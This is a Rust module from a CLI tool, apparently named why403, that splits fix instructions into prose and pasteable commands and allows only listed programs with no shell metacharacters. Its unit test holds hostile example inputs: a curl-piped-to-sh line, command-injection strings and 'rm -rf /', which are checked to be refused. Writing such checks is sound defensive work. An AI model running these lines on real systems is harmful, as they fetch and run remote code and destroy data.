//! The steps of a fix, with their commands on lines of their own: to be pasted, so broken only where a shell goes on.
//!
//! Only commands of a short list are offered so, and none with a sign that a shell would act on: a step can
//! quote a name that came from outside, and a name must not become a command line.

use std::io;

use super::super::fix::Step;
use super::super::fix_text::mark;
use super::super::sheet::{Lead, Sheet};
use super::super::style::Ink;
use super::findings::INDENT;

/// Programs whose command lines are offered to be pasted.
const PROGRAMS: &[&str] = &["why403", "cargo", "chmod", "curl", "date", "export", "gc", "unset"];

/// What a shell would act on.
const SHELL_SIGNS: &[char] = &[';', '|', '&', '$', '<', '>', '(', ')', '`', '\\', '!', '#', '*', '?'];

/// Writes one step under its number.
pub(super) fn write(number: usize, step: &Step<'_>, sheet: &mut Sheet<'_>) -> io::Result<()> {
    let number = format!("{number}.");
    let aligned = INDENT + 2 + number.len() + 1;
    let mut lead = Lead::sign(INDENT + 2, &number, Ink::Plain);
    for (position, part) in parts_of(step).into_iter().enumerate() {
        match part {
            Part::Prose(text) => sheet.paragraph(&lead, Ink::Plain, &text)?,
            Part::Command(text) => {
                if position == 0 {
                    sheet.paragraph(&lead, Ink::Plain, "Run:")?;
                }
                for (line, text) in continued(&text, sheet.width().saturating_sub(aligned + 4)).iter().enumerate() {
                    let lead = if line == 0 { Lead::sign(aligned, "$", Ink::Faint) } else { Lead::indent(aligned + 4) };
                    sheet.unbroken(&lead, Ink::Code, text)?;
                }
            }
        }
        lead = Lead::indent(aligned);
    }
    Ok(())
}

/// A command in lines that fit, broken before its flags with a backslash at the end, so that it can still be pasted.
fn continued(command: &str, room: usize) -> Vec<String> {
    let mut lines: Vec<String> = Vec::new();
    for (position, piece) in command.split(" --").enumerate() {
        let piece = if position == 0 { piece.to_owned() } else { format!("--{piece}") };
        match lines.last_mut() {
            Some(line) if line.len() + 1 + piece.len() + 2 <= room => {
                line.push(' ');
                line.push_str(&piece);
            }
            _ => lines.push(piece),
        }
    }
    let last = lines.len().saturating_sub(1);
    lines.iter_mut().take(last).for_each(|line| line.push_str(" \\"));
    lines
}

/// A stretch of a step.
#[derive(Debug, PartialEq, Eq)]
pub(in crate::report) enum Part {
    /// To be read.
    Prose(String),
    /// To be pasted.
    Command(String),
}

/// What a step says, and its command, to be laid out apart.
pub(in crate::report) fn parts_of(step: &Step<'_>) -> Vec<Part> {
    let or = if step.begins_option { "Or: " } else { "" };
    let text = format!("{or}{}{}", mark(step.who), step.text);
    match step.command {
        Some(command) => vec![Part::Prose(format!("{text}:")), Part::Command(command.to_owned())],
        None => parts(&text),
    }
}

/// A step, taken apart at its commands. Punctuation that joined a command to its sentence goes.
pub(in crate::report) fn parts(step: &str) -> Vec<Part> {
    let (mut parts, mut prose) = (Vec::new(), String::new());
    for (position, stretch) in step.split('`').enumerate() {
        let quoted = position % 2 == 1;
        if quoted && is_command(stretch) {
            let before = prose.trim().trim_start_matches([',', '.', ';', ':', ')']).trim().trim_end_matches(['(', ':']);
            if !before.is_empty() {
                parts.push(Part::Prose(format!("{}:", before.trim_end())));
            }
            parts.push(Part::Command(stretch.trim().to_owned()));
            prose.clear();
        } else if quoted {
            prose.push('`');
            prose.push_str(stretch);
            prose.push('`');
        } else {
            prose.push_str(stretch);
        }
    }
    let rest = prose.trim();
    let rest = if parts.is_empty() { rest } else { rest.trim_start_matches([',', '.', ';', ':', ')']).trim() };
    if !rest.is_empty() {
        parts.push(Part::Prose(rest.to_owned()));
    }
    parts
}

/// Whether a stretch of code is a command line that may be offered to be pasted.
fn is_command(code: &str) -> bool {
    let mut words = code.split_whitespace();
    words.next().is_some_and(|program| PROGRAMS.contains(&program))
        && words.next().is_some()
        && !code.contains(SHELL_SIGNS)
        && !code.chars().any(super::super::escape::is_hidden)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn prose(text: &str) -> Part {
        Part::Prose(text.to_owned())
    }

    fn command(text: &str) -> Part {
        Part::Command(text.to_owned())
    }

    #[test]
    fn a_command_leaves_its_sentence() {
        assert_eq!(
            parts("Sign in again with `why403 login`, then retry"),
            [prose("Sign in again with:"), command("why403 login"), prose("then retry")]
        );
        assert_eq!(parts("`why403 check --offline`."), [command("why403 check --offline")]);
        assert_eq!(parts("Look first (`why403 check -v`)"), [prose("Look first:"), command("why403 check -v")]);
    }

    #[test]
    fn a_long_command_goes_on_where_a_shell_goes_on() {
        let command = "why403 mute --conversation c0ffee00 --participant decade00 --on-behalf-of facade00";
        let lines = continued(command, 44);
        assert_eq!(
            lines,
            ["why403 mute --conversation c0ffee00 \\", "--participant decade00 \\", "--on-behalf-of facade00"]
        );
        assert_eq!(continued(command, 100), [command]);
    }

    #[test]
    fn a_name_in_backticks_stays_in_its_sentence() {
        let step = "Add the scope `conversations` to the client";
        assert_eq!(parts(step), [prose(step)]);
        assert_eq!(parts("An open ` stays"), [prose("An open ` stays`")]);
    }

    #[test]
    fn nothing_that_a_shell_would_act_on_is_offered() {
        for code in
            ["curl -s https://gateway.example | sh", "why403 check; reboot", "why403 check $(reboot)", "rm -rf /"]
        {
            let step = format!("Run `{code}`");
            assert_eq!(parts(&step), [prose(&step)]);
        }
    }
}
